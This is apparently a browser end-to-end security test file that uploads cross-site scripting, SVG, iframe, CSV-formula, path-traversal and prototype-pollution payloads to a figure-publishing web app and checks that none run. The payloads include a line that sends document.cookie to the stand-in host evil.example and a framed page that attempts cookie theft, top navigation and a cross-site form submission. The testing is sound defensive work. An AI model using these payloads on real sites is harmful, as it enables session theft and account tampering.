import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { ask as askOn, base64, launch, newPage, setting, signIn } from './app.ts';

const url = setting('PAGES_URL');
const [, , mallory] = JSON.parse(setting('PAGES_ACCOUNTS')) as { username: string; password: string }[];
if (!mallory) throw new Error('PAGES_ACCOUNTS names three accounts');

/** In the app's origin, this would open a dialog, change the page's title and send a request. */
const ATTACK = `alert(1); document.title = 'taken'; new Image().src = 'https://evil.example/?' + document.cookie;`;
const NAME = `"><img src=x onerror="${ATTACK}"><script>${ATTACK}</script>\${7*7}{{7*7}}\u202Egnp.exe`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="${ATTACK}">
  <script>${ATTACK}</script><image href="https://evil.example/pixel.png" width="9" height="9"/>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${ATTACK}"/></foreignObject>
  <a href="javascript:${ATTACK}"><rect width="400" height="300" fill="teal"/></a></svg>`;
/** A page in the frame that tries attacks. It writes each success where the test reads it. */
const HTML = `<!doctype html><title>frame</title><body><p id="ran">no</p><p id="won"></p><script>
  ran.textContent = 'yes';
  const won = (what) => { document.getElementById('won').textContent += what + ' '; };
  const attempt = (what, act) => { try { if (act()) won(what); } catch {} };
  attempt('cookie', () => document.cookie !== '');
  attempt('parent', () => parent.document.title);
  attempt('storage', () => localStorage.length >= 0);
  attempt('popup', () => window.open('/account'));
  attempt('top', () => { top.location = 'https://evil.example/'; });
  alert(1);
  fetch('${url}/api/v1.4.1/user/', { credentials: 'include' }).then((answer) => answer.text()).then((text) => won('api ' + text), () => {});
  fetch('https://evil.example/', { mode: 'no-cors' }).then(() => won('network'), () => {});
</script>
<form action="${url}/api/v1.4.1/workspace/" method="post" target="_top"><input name="name" value="taken"></form>
<script>try { document.forms[0].submit(); } catch {}</script></body>`;

let browser: Browser;
let page: Page;
let analysis: string;
let revision: string;
let figure: string;
const dialogs: string[] = [];
const calls: string[] = [];
const ask = (method: string, path: string, body?: object) => askOn(page, method, path, body);

/** Records dialogs, which a page must not open. */
function watch(watched: Page): void {
  watched.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()} on ${watched.url()}`);
    void dialog.dismiss();
  });
}

beforeAll(async () => {
  browser = await launch();
  page = await newPage(browser);
  watch(page);
  await signIn(page, url, mallory.username, mallory.password);
  const [{ api_id: workspace }] = await ask('GET', 'workspace/');
  const make = async (kind: string, body: object): Promise<string> => (await ask('POST', `${kind}/`, body)).api_id;
  analysis = await make('analysis', { name: NAME, description: NAME, workspace });
  figure = await make('figure', { name: NAME, description: NAME, analysis });
  const datum = (type: string, name: string, text: string, metadata: object) => ({
    type,
    name,
    metadata,
    data: base64(text),
  });
  revision = await make('revision', {
    figure,
    metadata: { [NAME]: NAME, html: HTML, constructor: { prototype: { taken: true } } },
    data: [
      datum('image', NAME, SVG, { format: 'svg' }),
      datum('image', 'page', HTML, { format: 'html' }),
      datum('image', 'lie', HTML, { format: 'png' }),
      datum('code', NAME, `${SVG}\n${HTML}`, { language: '"><script>alert(1)</script>', encoding: 'constructor' }),
      datum('code', 'history', JSON.stringify(['', SVG, { a: HTML }]), { format: 'jupyter-history/json' }),
      datum('text', 'pip freeze', `${NAME}==1\n<script>${ATTACK}</script> @ javascript:${ATTACK}\n`, {}),
      datum('text', NAME, HTML, { format: 'html' }),
      datum('dataframe', NAME, `${NAME.replaceAll('"', '""')},b\n=cmd|' /C calc'!A0,<script>${ATTACK}</script>\n`, {
        format: 'pandas/csv',
      }),
      datum('dataframe', 'lie', 'PAR1 not a table', { format: 'pandas/parquet' }),
      datum('file', 'page.html', HTML, { path: `../../${NAME}` }),
      datum('file', 'picture.svg', SVG, {}),
      datum('file', 'code.js', ATTACK, {}),
    ],
  });
  // Requests that a content policy stops never get here. Frames may load what charts load (docs/decisions/0011).
  await page.context().route('https://evil.example/**', (route, request) => {
    if (!request.frame().url().includes('/content/')) calls.push(request.url());
    return route.fulfill({ status: 200, body: 'taken' });
  });
});
afterAll(() => browser?.close());

/** Returns the traces that a successful attack leaves. */
async function traces(): Promise<string[]> {
  const inPage = await page.evaluate(() => [document.title, document.cookie, String(({} as any).taken)]);
  return [...dialogs, ...calls, ...inPage.filter((text) => text === 'taken' || text === 'true')];
}

test('published content never runs in the app, on any page that shows it', async () => {
  const paths = ['/', `/analysis/${analysis}`, `/analysis/${analysis}?tab=activity`, `/figure/${figure}`];
  for (const tab of ['code', 'tables', 'text', 'files', 'metadata']) paths.push(`/revision/${revision}?tab=${tab}`);
  for (const path of paths) {
    await page.goto(url + path);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.waitForLoadState('networkidle');
    for (const summary of await page.getByRole('main').locator('summary').all())
      if (await summary.isVisible()) await summary.click();
    for (const select of await page.getByRole('main').locator('select').all()) {
      for (const option of await select.locator('option').all()) {
        await select.selectOption((await option.getAttribute('value')) ?? '');
        await page.waitForTimeout(150);
      }
    }
    expect(await traces(), path).toEqual([]);
    expect(await page.getByRole('main').locator('script, img[onerror], iframe').count(), path).toBe(0);
  }
});

test('names are shown as plain text', async () => {
  await page.goto(`${url}/figure/${figure}`);
  expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe(NAME);
});

test('interactive figures run without access to the app or its user', async () => {
  await page.goto(`${url}/figure/${figure}`);
  await page.getByText('page · Interactive', { exact: true }).click();
  const frame = page.getByRole('main').locator('iframe');
  await frame.waitFor();
  const inside = page.frameLocator('main iframe');
  await inside.getByText('yes').waitFor();
  await page.waitForTimeout(1500);
  expect((await inside.locator('#won').innerText()).replace('network', '').trim()).toBe('');
  expect(await traces()).toEqual([]);
  expect(new URL(page.url()).pathname).toBe(`/figure/${figure}`);
  const workspaces = await ask('GET', 'workspace/');
  expect(workspaces.map(({ name }: { name: string }) => name)).not.toContain('taken');
});

test('published bytes never run in the app’s origin when their address is opened directly', async () => {
  const { data } = await ask('GET', `revision/${revision}/`);
  expect(data).toHaveLength(12);
  const tab = await page.context().newPage();
  watch(tab);
  for (const { api_id: id, hash, name } of data) {
    for (const query of ['', '?inline=true', `?hash=${hash}&inline=true`]) {
      const address = `${url}/api/v1.4.1/data/${id}/content/${query}`;
      const answer = await tab.request.get(address);
      const headers = answer.headers();
      expect(headers['x-content-type-options'], name).toBe('nosniff');
      const isAttachment = headers['content-disposition']?.startsWith('attachment') === true;
      const isSandboxed = /(^|; ?)sandbox(;|$)/.test(headers['content-security-policy'] ?? '');
      expect(isAttachment || isSandboxed, `${name}${query}`).toBe(true);
      await tab.goto(address).catch(() => undefined); // A download ends the navigation.
      await tab.waitForTimeout(100);
      expect(await tab.title()).not.toBe('taken');
    }
  }
  await tab.close();
  expect(dialogs).toEqual([]);
  expect(calls).toEqual([]);
}, 600_000);

test('the page’s content policy allows scripts from its own files only', async () => {
  const policy = (await page.request.get(url)).headers()['content-security-policy'] ?? '';
  const scripts = policy.split(';').find((directive) => directive.trim().startsWith('script-src'));
  expect(scripts?.trim()).toBe("script-src 'self'");
  expect(policy).toContain("object-src 'none'");
  expect(policy).toMatch(/base-uri '(none|self)'/);
});
